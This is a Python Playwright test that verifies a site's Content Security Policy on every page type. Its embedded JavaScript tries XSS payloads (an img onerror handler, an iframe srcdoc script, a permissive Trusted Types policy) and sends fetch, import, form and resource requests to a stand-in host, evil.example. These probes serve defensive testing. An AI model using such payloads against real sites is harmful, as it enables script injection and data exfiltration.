"""The Content Security Policy in force: no page violates it by itself, on every page it stops what it is there for."""

from collections.abc import Callable
from typing import Any

from playwright.sync_api import Browser, Route
from support.browser_days import KINDS

LISTEN = """
window.violated = [];
document.addEventListener("securitypolicyviolation", event => { violated.push(event.effectiveDirective); });
"""
# What a hole in the gate would let a stranger do.
TRY = """
async expected => {
  const before = [...violated];
  window.ran = 0;
  const put = (name, set) => {
    const part = document.createElement(name);
    set(part);
    document.body.append(part);
  };
  let refused = 0;
  const guarded = act => { try { act(); } catch (error) { if (error instanceof TypeError) refused += 1; } };
  guarded(() => { document.body.insertAdjacentHTML("beforeend", "<b onclick=1>x</b>"); });
  guarded(() => { document.createElement("div").innerHTML = "<img src=x onerror='ran = 1'>"; });
  guarded(() => { document.createElement("script").text = "ran = 1"; });
  guarded(() => { document.createElement("iframe").srcdoc = "<script>parent.ran = 1</script>"; });
  guarded(() => { trustedTypes.createPolicy("evil", { createHTML: text => text }); });
  put("b", part => { part.setAttribute("style", "color: red"); });
  put("style", part => { part.textContent = "b { color: red }"; });
  put("img", part => { part.src = "https://evil.example/x.png"; });
  put("iframe", part => { part.src = "https://evil.example/"; });
  guarded(() => put("object", part => { part.data = "https://evil.example/"; }));
  put("link", part => { part.rel = "stylesheet"; part.href = "https://evil.example/x.css"; });
  put("base", part => { part.href = "https://evil.example/"; });
  put("form", part => { part.action = "https://evil.example/"; });
  document.querySelector("form[action^='https://evil']").submit();
  await fetch("https://evil.example/").catch(() => {});
  await import("https://evil.example/x.js").catch(() => {});
  for (let waits = 0; waits < 50 && new Set(violated).size < expected; waits += 1) {
    await new Promise(done => setTimeout(done, 100));  // the browser tells of some a little later
  }
  return {
    before, ran, refused,
    stopped: [...new Set(violated.slice(before.length))].sort(),
    referrer: document.querySelector("meta[name=referrer]")?.content,
    opening: document.querySelectorAll("[target]").length,
    trusted: [...document.links].filter(a => a.host !== location.host && !a.relList.contains("noopener")).length,
  };
}
"""
STOPPED = [
    *("base-uri", "connect-src", "form-action", "frame-src", "img-src"),
    *("require-trusted-types-for", "script-src-elem", "style-src-attr", "style-src-elem", "trusted-types"),
]


def test_the_policy_is_in_force_on_every_kind_of_page(browser: Browser, sites: Callable[[str], str]) -> None:
    """Nothing violates it before the attempts, each of its parts stops its attempt, and no request leaves.

    That every page has the one policy, first in its head, is what the scan holds when a site is built.
    """
    base = sites("zh")
    context = browser.new_context()
    context.add_init_script(LISTEN)
    left: list[str] = []

    def refuse(way: Route) -> None:
        left.append(way.request.url)
        way.abort()

    context.route("https://evil.example/**", refuse)
    found: dict[str, Any] = {}
    for kind in KINDS:
        page = context.new_page()
        page.goto(base + kind, wait_until="load")
        found[kind] = page.evaluate(TRY, len(STOPPED))
        page.close()
    context.close()
    wrong = {kind: policy for kind, policy in found.items() if policy != found[""]}
    assert wrong == {}
    assert found[""] == {
        "before": [],
        "ran": 0,
        "refused": 6,
        "stopped": STOPPED,
        "referrer": "strict-origin-when-cross-origin",
        "opening": 0,
        "trusted": 0,
    }
    assert left == []
